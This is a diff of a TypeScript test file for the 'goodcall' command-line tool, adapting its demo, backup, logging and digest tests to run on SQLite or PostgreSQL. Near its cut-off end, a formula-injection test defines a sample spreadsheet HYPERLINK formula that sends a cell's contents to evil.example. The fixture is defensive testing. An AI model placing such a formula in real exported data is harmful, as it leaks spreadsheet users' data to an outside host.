@@ -8,6 +8,7 @@ import { promisify } from "node:util";
 import { DateTime } from "luxon";
 import { expect, it } from "vitest";
 import { closeDatabase, openDatabase } from "../../src/db/client.ts";
+import { freshDatabaseUrl, testDatabaseKind } from "../support/db.ts";
 import { startFakeSlack } from "../support/fakeSlack.ts";
 
 const run = promisify(execFile);
@@ -27,9 +28,14 @@ function cli(args: string[], env: Record<string, string>) {
   );
 }
 
+/** A database for `goodcall demo`: a new SQLite file, or an empty migrated PostgreSQL database. */
+async function demoDatabaseUrl(dir: string): Promise<string> {
+  return testDatabaseKind() === "postgresql" ? freshDatabaseUrl() : `file:${path.join(dir, "demo.db")}`;
+}
+
 it("fills a demo database, shows its digests, exports a team and backs it up", async () => {
   const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
-  const databaseUrl = `file:${path.join(dir, "demo.db")}`;
+  const databaseUrl = await demoDatabaseUrl(dir);
   const demo = await cli(["demo", "--database", databaseUrl], {});
   expect(demo.stdout).toContain("2 teams, 10 good calls, 2 stories");
   expect(demo.stdout).toContain("=== Digest preview for #support-helsinki");
@@ -76,32 +82,48 @@ it("fills a demo database, shows its digests, exports a team and backs it up", a
 
   const backup = path.join(dir, "backup.db");
   const result = await cli(["backup", backup], { DATABASE_URL: databaseUrl });
+  if (testDatabaseKind() === "postgresql") {
+    // PostgreSQL is backed up with its own tools; the CLI says so and writes nothing.
+    expect(result.code).toBe(2);
+    expect(result.stderr).toContain("back it up with PostgreSQL's own tools, e.g. pg_dump");
+    expect(result.stderr).not.toContain(databaseUrl);
+    expect(existsSync(backup)).toBe(false);
+    const again = await cli(["demo", "--database", databaseUrl], {});
+    expect(again.code).toBe(2);
+    expect(again.stderr).toContain("already has teams; the demo fills only an empty database");
+    return;
+  }
   expect(result.stdout).toContain("Backed up");
   expect(existsSync(backup)).toBe(true);
 }, 60_000);
 
-it("refuses to overwrite an existing file with a backup unless told to with --force", async () => {
-  const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
-  const databaseUrl = `file:${path.join(dir, "demo.db")}`;
-  await cli(["demo", "--database", databaseUrl], {});
-  const existing = path.join(dir, "last-night.db");
-  writeFileSync(existing, "last night's backup");
+// SQLite only: the backup command copies a SQLite file (on PostgreSQL it refuses, tested above).
+it.runIf(testDatabaseKind() === "sqlite")(
+  "refuses to overwrite an existing file with a backup unless told to with --force",
+  async () => {
+    const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
+    const databaseUrl = await demoDatabaseUrl(dir);
+    await cli(["demo", "--database", databaseUrl], {});
+    const existing = path.join(dir, "last-night.db");
+    writeFileSync(existing, "last night's backup");
 
-  const refused = await cli(["backup", existing], { DATABASE_URL: databaseUrl });
-  expect(refused.code).toBe(1);
-  expect(refused.stderr).toContain(
-    `${existing} already exists; nothing was written. Choose another file name, or add --force to replace it.`,
-  );
-  expect(readFileSync(existing, "utf8")).toBe("last night's backup");
+    const refused = await cli(["backup", existing], { DATABASE_URL: databaseUrl });
+    expect(refused.code).toBe(1);
+    expect(refused.stderr).toContain(
+      `${existing} already exists; nothing was written. Choose another file name, or add --force to replace it.`,
+    );
+    expect(readFileSync(existing, "utf8")).toBe("last night's backup");
 
-  const forced = await cli(["backup", existing, "--force"], { DATABASE_URL: databaseUrl });
-  expect(forced.stdout).toContain("Backed up");
-  expect(readFileSync(existing).subarray(0, 15).toString("latin1")).toBe("SQLite format 3");
-}, 60_000);
+    const forced = await cli(["backup", existing, "--force"], { DATABASE_URL: databaseUrl });
+    expect(forced.stdout).toContain("Backed up");
+    expect(readFileSync(existing).subarray(0, 15).toString("latin1")).toBe("SQLite format 3");
+  },
+  60_000,
+);
 
 it("writes its logs to stderr, so stdout holds only what the operator asked for", async () => {
   const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
-  const databaseUrl = `file:${path.join(dir, "demo.db")}`;
+  const databaseUrl = await demoDatabaseUrl(dir);
   await cli(["demo", "--database", databaseUrl], {});
   const fake = await startFakeSlack();
   try {
@@ -131,7 +153,7 @@ it("writes its logs to stderr, so stdout holds only what the operator asked for"
 
 it("previews a digest run with people as @id, not Slack's <@id> markup", async () => {
   const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
-  const databaseUrl = `file:${path.join(dir, "demo.db")}`;
+  const databaseUrl = await demoDatabaseUrl(dir);
   await cli(["demo", "--database", databaseUrl], {});
   // An hour after the demo team's first digest slot (the coming Friday 15:00 in Helsinki) it is due.
   const helsinki = DateTime.now().setZone("Europe/Helsinki");
@@ -148,7 +170,7 @@ it("previews a digest run with people as @id, not Slack's <@id> markup", async (
 
 it("exports text that starts like a formula as text, so a spreadsheet does not run it", async () => {
   const dir = mkdtempSync(path.join(tmpdir(), "goodcall-cli-"));
-  const databaseUrl = `file:${path.join(dir, "demo.db")}`;
+  const databaseUrl = await demoDatabaseUrl(dir);
   await cli(["demo", "--database", databaseUrl], {});
   const db = await openDatabase(databaseUrl);
   const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Open the voucher")';
